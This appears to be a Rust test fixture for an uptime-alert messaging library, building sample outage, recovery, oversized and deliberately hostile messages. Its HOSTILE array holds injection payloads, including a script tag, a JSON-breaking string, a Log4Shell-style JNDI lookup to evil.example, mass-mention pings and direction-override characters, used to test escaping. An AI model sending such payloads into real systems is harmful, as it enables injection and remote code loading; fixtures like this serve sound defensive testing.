//! Messages to send.

use chrono::{DateTime, Utc};
use easytier_uptime_alerts::{Language, Message, NodeLine, Severity, Topic};
use url::Url;
use uuid::Uuid;

/// Names that try to do something in one service or another.
pub const HOSTILE: [&str; 12] = [
    "@everyone @here @all",
    "<!channel> <@U123> <!here|x>",
    "<at user_id=\"all\">所有人</at>",
    "[click](https://evil.example/?a=1&b=2) ![x](http://evil.example/p.png)",
    "**bold** _it_ ~~no~~ `code` ||spoiler||",
    "</b><a href=\"https://evil.example\">x</a><script>alert(1)</script>",
    "line one\r\nline two\n\n# heading\n> quote",
    "\u{202e}gnp.exe\u{2066}\u{200b}",
    "\"}],\"text\":\"injected\\",
    "{{ 7 * 7 }} {% raw %} ${jndi:ldap://evil.example/a}",
    "tg://user?id=1 /start #tag mailto:a@evil.example www.evil.example",
    "节点🎉 & Ωmega <3 \u{0}\u{1b}[31m",
];

pub fn at() -> DateTime<Utc> {
    "2026-03-04T05:06:07Z".parse().unwrap()
}

pub fn outage() -> Message {
    Message {
        id: Uuid::from_u128(0x0190_0000_0000_7000_8000_0000_0000_0001),
        topic: Topic::Outage,
        severity: Severity::Critical,
        subject: "rule-7/node-12".to_owned(),
        title: "Tokyo is down".to_owned(),
        lines: vec!["Seen by 2 of 3 regions.".to_owned(), "Since 05:06 UTC.".to_owned()],
        nodes: vec![NodeLine { id: 12, name: "Tokyo".to_owned(), what: "connection refused".to_owned() }],
        url: Some(Url::parse("https://uptime.example/node/12?a=1&b=(2)").unwrap()),
        acknowledge: Some(Url::parse("https://uptime.example/alerts/34?token=t0k3n").unwrap()),
        unsubscribe: None,
        at: at(),
        language: Language::English,
    }
}

pub fn recovery() -> Message {
    Message {
        id: Uuid::from_u128(0x0190_0000_0000_7000_8000_0000_0000_0002),
        topic: Topic::Recovery,
        severity: Severity::Info,
        title: "Tokyo is up again".to_owned(),
        at: at() + chrono::TimeDelta::minutes(10),
        ..outage()
    }
}

/// Everything in it is hostile.
pub fn hostile() -> Message {
    let node = |(at, name): (usize, &&str)| NodeLine {
        id: at as i64,
        name: (*name).to_owned(),
        what: HOSTILE[(at + 5) % HOSTILE.len()].to_owned(),
    };
    Message {
        title: HOSTILE.join(" "),
        lines: HOSTILE.map(str::to_owned).to_vec(),
        nodes: HOSTILE.iter().enumerate().map(node).collect(),
        ..outage()
    }
}

/// As much of everything as a message can have, of characters that take much room.
pub fn huge() -> Message {
    let text = |count: usize| "<界&\"\\*_🎉".repeat(count);
    Message {
        subject: "s".repeat(5000),
        title: text(1000),
        lines: (0..4).map(|_| text(300)).collect(),
        nodes: (0..Message::MAX_NODES).map(|at| NodeLine { id: at as i64, name: text(400), what: text(400) }).collect(),
        language: Language::Chinese,
        ..outage()
    }
}
